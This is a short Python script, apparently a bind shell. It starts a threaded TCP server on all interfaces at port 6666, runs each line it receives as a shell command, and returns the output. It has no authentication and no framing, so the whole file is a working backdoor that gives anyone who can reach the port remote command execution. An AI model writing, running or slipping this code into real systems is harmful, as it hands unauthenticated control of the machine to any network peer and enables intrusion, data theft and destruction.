import socketserver
import subprocess


class ShellHandler(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            res = subprocess.run(line.decode(), shell=True, capture_output=True)
            self.wfile.write(res.stdout + res.stderr)


with socketserver.ThreadingTCPServer(("0.0.0.0", 6666), ShellHandler) as server:
    server.serve_forever()
